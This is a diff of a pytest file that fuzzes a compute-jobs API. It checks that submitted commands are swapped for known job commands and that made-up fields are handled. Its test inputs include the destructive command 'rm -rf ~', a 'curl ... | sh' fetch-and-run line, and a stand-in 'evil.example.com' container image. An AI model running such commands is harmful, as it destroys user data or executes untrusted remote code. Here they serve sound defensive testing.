@@ -55,16 +55,27 @@ def test_a_kept_connection_is_never_deleted(monkeypatch: pytest.MonkeyPatch) -> 
 @pytest.mark.parametrize("command", ["rm -rf ~", "curl https://example.com | sh", "0", "\u00e9\u00e9\u00e9"])
 def test_a_job_runs_only_a_command_of_ours_and_no_image(command: str) -> None:
     body = {"name": "j", "type": "sft", "command": command, "image": "evil.example.com/x:latest",
-            "requested_by": "fuzz", "gpu": "H100"}
+            "requested_by": "fuzz", "priority": 7}
     case = send("POST", "/api/compute/jobs", body)
     assert case.body["command"] in fuzz_hooks.JOB_COMMANDS and "image" not in case.body
-    assert case.body["gpu"] == "H100" and case.body["name"] == "j"  # the rest as generated
+    assert (case.body["name"], case.body["priority"]) == ("j", 7)  # the rest as generated
     JobCreate.model_validate(case.body)  # past the API's own checks: the job's logic is reached
 
 
-def test_fuzzed_jobs_reach_every_one_of_our_commands() -> None:
-    picked = {send("POST", "/api/compute/jobs", {"command": f"c{i}"}).body["command"] for i in range(20)}
-    assert picked == set(fuzz_hooks.JOB_COMMANDS)
+def test_half_the_jobs_drop_what_made_up_text_never_matches_and_half_keep_it() -> None:
+    made_up = {"gpu": "zz9", "gpu_count": 3, "pool": "nope", "max_price_per_hour": 0.001,
+               "name": "a\x85b", "requested_by": " "}
+    sent = [send("POST", "/api/compute/jobs", {"command": f"c{i}", "priority": -5000, **made_up}).body
+            for i in range(40)]
+    kept = [b for b in sent if b.get("gpu") == "zz9"]
+    made = [b for b in sent if "gpu" not in b]
+    assert len(kept) + len(made) == 40 and kept and made
+    assert all(made_up.items() <= b.items() and b["priority"] == -5000 for b in kept)  # the API refuses these
+    for b in made:
+        assert not {"gpu", "gpu_count", "pool"} & b.keys()
+        assert (b["priority"], b["max_price_per_hour"]) == (-fuzz_hooks.PRIORITY_MAX, fuzz_hooks.MAX_PRICE)
+        JobCreate.model_validate({"type": "sft", **b})  # printable names: past the API's checks
+    assert {b["command"] for b in kept} == {b["command"] for b in made} == set(fuzz_hooks.JOB_COMMANDS)
 
 
 def test_a_jobs_other_operations_and_odd_shapes_are_left_alone() -> None:
